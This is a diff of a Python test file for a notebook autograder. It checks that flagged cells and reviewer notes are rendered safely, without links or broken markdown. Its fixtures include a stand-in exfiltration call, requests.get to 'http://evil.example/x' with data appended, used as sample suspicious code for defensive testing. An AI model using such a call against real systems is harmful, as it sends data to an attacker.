@@ -6,10 +6,11 @@ import pytest
 from bs4 import BeautifulSoup
 from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath
 
-from autograder.grading.markdown import safe_html
-from autograder.grading.policy.reading import read_cells
-from autograder.grading.said import as_code, said_as_html, said_as_markdown
-from autograder.grading.work import note_for_person
+from autograder.grading.one_submission import note_for_person
+from autograder.grading.policy.concerns import read_slices
+from autograder.grading.safe_text import as_code, safe_html, said_as_html, said_as_markdown
+from autograder.learner.slice import Slice
+from autograder.running.program import Piece
 
 CODE = (
     "requests.get('http://evil.example/x' + a.b)", "x = `1`", "``", "a`", "`", "``a` b```", " ", "a  b",
@@ -61,7 +62,13 @@ def test_other_text_is_shown_as_it_is(text: str) -> None:
 
 def test_the_note_of_a_waiting_notebook_reads_well() -> None:
     source = "import pandas\nx = requests.get('http://evil.example/x')  # `see` http://evil.example"
-    reasons = [str(one) for one in read_cells([("cell 2", source + "\nos.getcwd()")])]
+    setup = Piece("cell 1 (setup)", "import os")
+    reasons = [
+        str(one)
+        for one in read_slices(
+            [Slice((setup, Piece("cell 2", source + "\nos.getcwd()")), frozenset({"cell 2"}))]
+        )
+    ]
     page = shown(note_for_person(reasons).source, markdown=True)
     assert not page.find_all("a")
     assert "`import" not in page.get_text()
